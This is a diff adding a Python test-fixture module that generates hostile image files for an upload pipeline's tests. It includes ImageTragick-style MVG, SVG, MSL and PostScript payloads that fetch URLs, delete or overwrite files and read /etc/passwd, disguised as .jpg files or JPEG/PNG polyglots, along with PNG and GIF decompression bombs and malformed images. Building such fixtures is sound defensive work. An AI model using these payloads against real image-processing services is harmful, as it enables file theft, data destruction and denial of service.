@@ -1,0 +1,142 @@
+"""A corpus of hostile files, made by the tests: ImageTragick-style payloads, bombs, broken images.
+
+Payloads that would reach out call `hit_url` (a test HTTP server that counts requests) or touch
+`victim` (a file that must survive), so that a test can see that none of them ever ran.
+"""
+from __future__ import annotations
+
+import struct
+import zlib
+
+from tests import pictures
+
+
+def mvg_payload(hit_url: str, victim: str) -> bytes:
+    """ImageTragick (CVE-2016-3714 and friends): fetch a URL, delete a file, read a file."""
+    return (b"push graphic-context\nviewbox 0 0 640 480\n"
+            + f"fill 'url({hit_url}/mvg-url)'\n".encode()
+            + f"image over 0,0 0,0 'ephemeral:{victim}'\n".encode()
+            + b"image over 0,0 0,0 'text:/etc/passwd'\n"
+            + b"pop graphic-context\n")
+
+
+def svg_payload(hit_url: str, victim: str) -> bytes:
+    return (b'<?xml version="1.0" standalone="no"?>\n'
+            b'<svg width="640" height="480" xmlns="http://www.w3.org/2000/svg" '
+            b'xmlns:xlink="http://www.w3.org/1999/xlink">\n'
+            + f'<image xlink:href="{hit_url}/svg-href" x="0" y="0" height="10" width="10"/>\n'.encode()
+            + f'<image xlink:href="ephemeral:{victim}" x="0" y="0" height="10" width="10"/>\n'.encode()
+            + b"</svg>\n")
+
+
+def msl_payload(hit_url: str, victim: str) -> bytes:
+    """An MSL script that reads a URL and writes over the victim file."""
+    return (b'<?xml version="1.0" encoding="UTF-8"?>\n<image>\n'
+            + f'<read filename="{hit_url}/msl-read"/>\n'.encode()
+            + f'<write filename="{victim}"/>\n'.encode()
+            + b"</image>\n")
+
+
+def postscript_payload(hit_url: str, victim: str) -> bytes:
+    return (b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n"
+            + f"({victim}) deletefile\n".encode() + b"showpage\n")
+
+
+def text_payload(hit_url: str, victim: str) -> bytes:
+    """What the TXT/TEXT coders would draw: a file of the server, as an image."""
+    return b"@/etc/passwd\n"
+
+
+# Each maker takes (hit_url, victim) and returns the bytes, sent with a .jpg name.
+DISGUISED = {"mvg": mvg_payload, "svg": svg_payload, "msl": msl_payload, "ps": postscript_payload,
+             "txt": text_payload}
+
+
+def _chunk(kind: bytes, data: bytes) -> bytes:
+    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+
+def png_header_only(width: int, height: int, rows: int = 16) -> bytes:
+    """A tiny grey PNG that claims `width` x `height`, with only the first `rows` rows of data:
+    a decompression bomb to anyone who believes the header."""
+    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
+    rows_data = zlib.compress(b"\x00" * (1 + width) * rows, 9)
+    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", rows_data)
+            + _chunk(b"IEND", b""))
+
+
+def png_bomb(width: int, height: int) -> bytes:
+    """A complete PNG of zeros: kilobytes on disk, width x height pixels once decoded."""
+    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
+    row = b"\x00" * (1 + (width + 7) // 8)
+    packer = zlib.compressobj(9)
+    data = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
+    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", data)
+            + _chunk(b"IEND", b""))
+
+
+def png_zero_width() -> bytes:
+    ihdr = struct.pack(">IIBBBBB", 0, 10, 8, 0, 0, 0, 0)
+    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr)
+            + _chunk(b"IDAT", zlib.compress(b"\x00" * 10)) + _chunk(b"IEND", b""))
+
+
+def gif_frames(count: int, width: int = 1, height: int = 1) -> bytes:
+    """A GIF of `count` frames, each `width` x `height` of one colour, written by hand (fast)."""
+    screen = struct.pack("<HHBBB", width, height, 0x80, 0, 0)     # global table of 2 colours
+    palette = b"\x00\x00\x00\xff\xff\xff"
+    loop = b"\x21\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00"
+    frame = (b"\x21\xf9\x04\x00\x0a\x00\x00\x00"                    # 0.1 s per frame
+             + b"\x2c" + struct.pack("<HHHHB", 0, 0, width, height, 0)
+             + _lzw_one_colour(width * height))
+    return b"GIF89a" + screen + palette + loop + frame * count + b"\x3b"
+
+
+def _lzw_one_colour(pixels: int) -> bytes:
+    """GIF LZW data (minimum code size 2) of `pixels` pixels of colour 0: a clear code before each
+    pixel keeps the code size at 3 bits, which makes the stream trivial to write."""
+    bits, nbits, out = 0, 0, bytearray()
+    for code in [4, 0] * pixels + [5]:
+        bits |= code << nbits
+        nbits += 3
+        while nbits >= 8:
+            out.append(bits & 0xFF)
+            bits >>= 8
+            nbits -= 8
+    if nbits:
+        out.append(bits & 0xFF)
+    blocks = b"".join(bytes([len(out[i:i + 255])]) + bytes(out[i:i + 255])
+                      for i in range(0, len(out), 255))
+    return b"\x02" + blocks + b"\x00"
+
+
+def gif_small_then_huge(side: int) -> bytes:
+    """An animation whose first frame is 1x1 and whose second claims `side` x `side`."""
+    huge = b"\x2c" + struct.pack("<HHHHB", 0, 0, side, side, 0) + _lzw_one_colour(1)
+    return gif_frames(1)[:-1] + huge + b"\x3b"
+
+
+def truncated(data: bytes, keep: float = 0.5) -> bytes:
+    return data[:max(16, int(len(data) * keep))]
+
+
+def truncated_images() -> dict:
+    """Real JPEG, PNG, WebP and GIF pictures cut in half."""
+    return {fmt: truncated(pictures.photo(300, 200, fmt)) for fmt in ("jpeg", "png", "webp", "gif")}
+
+
+def polyglot_jpeg_mvg(hit_url: str, victim: str) -> bytes:
+    """A real JPEG with an MVG script after its end: the JPEG coder, and only it, may run."""
+    return pictures.photo(64, 48, "jpeg") + b"\n" + mvg_payload(hit_url, victim)
+
+
+def polyglot_png_svg(hit_url: str, victim: str) -> bytes:
+    """PNG's magic bytes, then an SVG document."""
+    return b"\x89PNG\r\n\x1a\n" + svg_payload(hit_url, victim)
+
+
+def garbage_after_magic() -> dict:
+    """The first bytes of each accepted format, then noise."""
+    noise = bytes(range(256)) * 8
+    return {"jpeg": b"\xff\xd8\xff\xe0" + noise, "png": b"\x89PNG\r\n\x1a\n" + noise,
+            "gif": b"GIF89a" + noise, "webp": b"RIFF\x00\x10\x00\x00WEBPVP8 " + noise}
